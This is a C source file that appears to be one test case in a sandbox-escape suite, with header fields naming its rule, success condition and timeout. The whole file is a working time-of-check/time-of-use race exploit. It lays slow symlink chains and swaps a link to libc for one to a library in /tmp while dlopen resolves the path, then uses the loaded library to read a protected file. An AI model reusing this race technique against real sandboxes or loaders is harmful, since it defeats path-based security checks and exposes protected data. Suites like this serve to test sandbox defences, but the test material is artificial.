// class: machine_code
// rule: native_code read_write_tmp
// needs: gcc
// success: a library in /tmp is loaded through a link that led to libc when it was judged
// proof: read
// timeout: 40
#include "attack.h"

#include <dlfcn.h>
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

enum { LINKS = 30, HEAD_START = 4, DELAYS = 60, SECONDS = 8 };

static atomic_int turn, done;
static double walk;

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static void spin(double seconds)
{
    double until = now() + seconds;
    while (now() < until) continue;
}

/* Each delay in turn, of up to 15 walks: before the judgement, during it, after it. */
static void *flip(void *unused)
{
    char from[32], to[32];
    for (int last = 0; last >= 0;) {
        int here = atomic_load(&turn);
        if (here == last) continue;
        last = here;
        spin((here - 1) % DELAYS * walk / 4);
        snprintf(from, sizeof from, "evil%d", here);
        snprintf(to, sizeof to, "link%d", here);
        rename(from, to);
        atomic_store(&done, here);
    }
    return unused;
}

/* A folder with a chain of links, each slow to follow, that ends at `target`. */
static void lay_chain(const char *folder, const char *target)
{
    char slow[4000], name[64];
    mkdir(folder, 0755);
    for (int i = 0; i < LINKS; i++) {
        size_t at = 0;
        while (at < 3800) at += (size_t)snprintf(slow + at, sizeof slow - at, "./");
        snprintf(slow + at, sizeof slow - at, "c%d", i + 1);
        snprintf(name, sizeof name, "%s/c%d", folder, i);
        symlink(slow, name);
    }
    snprintf(name, sizeof name, "%s/c%d", folder, LINKS);
    symlink(target, name);
}

int main(void)
{
    Dl_info libc;
    struct stat status;
    char path[64], evil[64], library[4096], text[200] = "";
    pthread_t thread;
    snprintf(library, sizeof library, "%s/library.so", DIR_);
    if (dladdr(dlsym(RTLD_DEFAULT, "qsort"), &libc) == 0) return stopped("dladdr");
    lay_chain("good", libc.dli_fname);
    lay_chain("evil", library);
    double begun = now();
    stat("good/c0", &status);
    walk = now() - begun;
    pthread_create(&thread, NULL, flip, NULL);
    long (*raw_read)(const char *, char *, long) = NULL;
    for (int i = 1; now() < begun + SECONDS && raw_read == NULL; i++) {
        snprintf(path, sizeof path, "link%d", i);
        snprintf(evil, sizeof evil, "evil%d", i);
        symlink("good", path);
        symlink("evil", evil);
        atomic_store(&turn, i);
        spin(HEAD_START * walk);
        snprintf(path, sizeof path, "./link%d/c0", i);
        void *handle = dlopen(path, RTLD_NOW | RTLD_LOCAL);
        if (handle) raw_read = (long (*)(const char *, char *, long))dlsym(handle, "raw_read");
        while (atomic_load(&done) != i) continue;
    }
    atomic_store(&turn, -1);
    pthread_join(thread, NULL);
    if (raw_read != NULL) raw_read(FILE_, text, sizeof text - 1);
    return got(text);
}
